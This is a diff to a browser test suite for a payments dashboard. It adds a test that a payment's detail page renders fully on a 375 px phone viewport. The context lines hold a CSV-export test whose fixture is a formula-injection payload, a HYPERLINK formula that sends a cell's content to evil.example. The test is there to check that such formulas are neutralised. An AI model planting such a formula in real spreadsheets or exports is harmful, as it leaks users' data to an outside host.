@@ -168,6 +168,33 @@ describe('dashboard in headless Chromium', () => {
     await expect.poll(() => page.locator('h1').first().textContent(), { timeout: 30_000, interval: 500 }).toMatch(/^Payments/);
   });
 
+  it('a payment\'s detail page shows what it is and does not scroll sideways at 375 px', async () => {
+    const long = 'x'.repeat(300);
+    const p = await system.trpc.payments.create.mutate({
+      amount: 4200,
+      currency: 'EUR',
+      delaySeconds: 0,
+      description: `mobile ${long}`,
+      metadata: { orderId: 'A-17' },
+      data: { note: long, simulate: 'decline' },
+    });
+    await system.temporal.workflow.getHandle(p.id).result();
+    const phone = await browser.newPage({ viewport: { width: 375, height: 740 } });
+    try {
+      await phone.goto(`${web.url}/payments/${p.id}`);
+      const details = await phone.getByTestId('details').textContent();
+      expect(details).toContain('metadata.orderId');
+      expect(details).toContain('A-17');
+      expect(details).toContain(`mobile ${long}`);
+      expect(await phone.getByTestId('payment-id').textContent()).toBe(p.id);
+      const overflow = await phone.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
+      await phone.screenshot({ path: `${SCREENSHOTS}/detail-375.png`, fullPage: true });
+      expect(overflow).toBeLessThanOrEqual(0);
+    } finally {
+      await phone.close();
+    }
+  });
+
   it('exports CSV with formulas neutralised', async () => {
     const description = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
     await system.trpc.payments.create.mutate({ amount: 100, currency: 'EUR', delaySeconds: 600, description });
